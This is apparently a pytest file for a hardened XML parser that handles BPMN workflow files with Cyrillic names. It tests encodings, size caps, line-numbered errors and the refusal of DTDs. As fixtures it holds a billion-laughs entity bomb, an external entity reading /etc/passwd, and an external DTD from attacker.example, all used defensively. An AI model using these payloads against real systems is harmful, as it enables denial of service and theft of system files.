"""Hardened XML parsing: DTDs and entities refused, size cap, line numbers, Cyrillic text."""

from __future__ import annotations

import pytest
from lxml import etree

from core.errors import MalformedXmlError, UnsafeXmlError, XmlError
from core.xmlsafe import _parser, parse_xml, serialize

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
BPMN = f"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="{BPMN_NS}" id="defs">
  <bpmn:process id="orders" name="Заявка на доставку" isExecutable="true">
    <bpmn:serviceTask id="Activity_1" name="Создать задачу в Битрикс24"/>
  </bpmn:process>
</bpmn:definitions>
"""


def task_name(root: object) -> str:
    (task,) = root.iter(f"{{{BPMN_NS}}}serviceTask")  # type: ignore[attr-defined]
    return str(task.get("name"))


def test_a_bpmn_document_parses_to_its_root_element() -> None:
    root = parse_xml(BPMN.encode("utf-8"))

    assert root.tag == f"{{{BPMN_NS}}}definitions"
    assert task_name(root) == "Создать задачу в Битрикс24"


@pytest.mark.parametrize(
    "data",
    [
        BPMN.encode("utf-8"),
        BPMN,
        BPMN.replace('encoding="UTF-8"', 'encoding="windows-1251"').encode("cp1251"),
        BPMN.replace('encoding="UTF-8"', 'encoding="windows-1251"'),
        BPMN.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
        BPMN.replace('encoding="UTF-8"', 'encoding="UTF-16"'),
    ],
    ids=[
        "utf8-bytes",
        "text",
        "cp1251-bytes",
        "text-declaring-cp1251",
        "utf16-bytes",
        "text-declaring-utf16",
    ],
)
def test_cyrillic_text_survives_whatever_the_declared_encoding(data: bytes | str) -> None:
    root = parse_xml(data)

    assert task_name(root) == "Создать задачу в Битрикс24"
    assert root[0].get("name") == "Заявка на доставку"


def test_serialising_keeps_cyrillic_and_declares_utf8() -> None:
    out = serialize(parse_xml(BPMN))

    assert out.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert "Создать задачу в Битрикс24".encode() in out
    assert task_name(parse_xml(out)) == "Создать задачу в Битрикс24"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<data>&secret;</data>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE data SYSTEM "http://attacker.example/evil.dtd">
<data/>
"""


@pytest.mark.parametrize(
    "data",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY.encode(),
        EXTERNAL_DTD,
        EXTERNAL_ENTITY.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode(
            "utf-16"
        ),
        EXTERNAL_DTD.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode(
            "utf-16"
        ),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "utf16-external-entity", "utf16-external-dtd"],
)
def test_documents_with_a_dtd_or_entities_are_refused(data: bytes | str) -> None:
    with pytest.raises(UnsafeXmlError, match="DTD"):
        parse_xml(data, source="evil.bpmn")


def test_past_the_dtd_check_the_parser_itself_still_expands_no_entity() -> None:
    # The byte check comes first; this is the second line of defence behind it.
    root = etree.fromstring(EXTERNAL_ENTITY.encode(), parser=_parser())

    assert "root:" not in etree.tostring(root, encoding="unicode"), "no /etc/passwd content"
    assert root.text is None
    assert [type(child).__name__ for child in root] == ["_Entity"]


def test_a_refusal_names_the_source() -> None:
    with pytest.raises(UnsafeXmlError, match=r"uploads/evil\.bpmn"):
        parse_xml(EXTERNAL_ENTITY, source="uploads/evil.bpmn")


def test_a_document_over_the_size_limit_is_refused_before_parsing() -> None:
    data = b"<a>" + b"x" * 100 + b"</a>"

    with pytest.raises(UnsafeXmlError, match="over the limit"):
        parse_xml(data, max_bytes=len(data) - 1)
    assert parse_xml(data, max_bytes=len(data)).tag == "a"


def test_the_size_limit_counts_encoded_bytes_not_characters() -> None:
    text = "<a>" + "я" * 50 + "</a>"  # 57 characters, 107 bytes in UTF-8

    with pytest.raises(UnsafeXmlError):
        parse_xml(text, max_bytes=len(text) + 10)


def test_malformed_xml_reports_the_line_of_the_problem() -> None:
    data = "<root>\n  <a>\n    <b>\n  </a>\n</root>\n"

    with pytest.raises(MalformedXmlError) as caught:
        parse_xml(data, source="broken.bpmn")

    assert caught.value.line == 4
    assert "line 4" in str(caught.value)
    assert "broken.bpmn" in str(caught.value)


@pytest.mark.parametrize("data", [b"", "   ", "not xml at all", "<a>"])
def test_empty_or_unfinished_input_is_malformed(data: bytes | str) -> None:
    with pytest.raises(MalformedXmlError):
        parse_xml(data)


def test_both_refusals_are_xml_errors() -> None:
    assert issubclass(UnsafeXmlError, XmlError)
    assert issubclass(MalformedXmlError, XmlError)
